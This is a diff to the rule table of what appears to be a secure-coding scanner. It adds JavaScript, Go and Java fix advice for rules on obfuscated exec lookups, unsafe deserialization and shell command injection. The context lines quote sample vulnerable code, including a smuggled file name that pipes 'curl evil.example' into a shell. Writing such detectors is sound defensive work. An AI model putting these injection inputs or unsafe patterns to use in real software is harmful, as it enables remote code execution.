@@ -34,6 +34,9 @@ RULES = [
         why="Looking a function up by an assembled string exists to defeat search and review: `getattr(__builtins__, 'ex'+'ec')` is exec that no grep finds.",
         example='getattr(__builtins__, "ex" + "ec")(payload)',
         use_instead="Call functions by name; dispatch through an explicit dict of allowed callables.",
+        fixes=(
+            (("javascript",), 'call the function directly, or dispatch through an explicit allow-list (a Map of permitted functions)'),
+        ),
         fix="call the function directly, or dispatch through an explicit allow-list dict",
     ),
     Rule(
@@ -49,6 +52,10 @@ RULES = [
              "influence becomes remote code execution."),
         example="session = pickle.loads(base64.b64decode(request.cookies['session']))",
         use_instead="JSON (with schema validation), yaml.safe_load, torch.load(..., weights_only=True), safetensors.",
+        fixes=(
+            (("javascript",), "parse with JSON.parse (or js-yaml's default safe schema) and validate; never node-serialize or eval-based parsers"),
+            (("java",), 'bind JSON to fixed classes; for Java serialization set an ObjectInputFilter allow-list; never enable polymorphic default typing'),
+        ),
         fix="use JSON / yaml.safe_load / weights_only=True / safetensors",
         known_problems=("Blocking when the data provably comes from a client (request body, cookie, header,\n"
                         "parameter, upload), the network, a socket or a shared queue/cache; a warning when its\n"
@@ -67,6 +74,11 @@ RULES = [
         why="A file name such as `x; curl evil.example | sh` in the built string runs as a second command with the program's privileges.",
         example='subprocess.run(f"convert {filename} out.png", shell=True)',
         use_instead='Pass an argument list without a shell: subprocess.run(["convert", filename, "out.png"]).',
+        fixes=(
+            (("javascript",), 'use execFile() or spawn() with an argument array, without shell: true'),
+            (("go",), 'pass the program and its arguments to exec.Command separately, never "sh", "-c" with a built string'),
+            (("java",), 'use ProcessBuilder with a list of arguments, never sh -c with a built string'),
+        ),
         fix="pass an argument list and drop shell=True",
         known_problems=("Parts wrapped in shlex.quote (or int()) are treated as safe. A command that is only a\n"
                         "parameter, not built in this module, is not reported unless it comes from the request or\n"
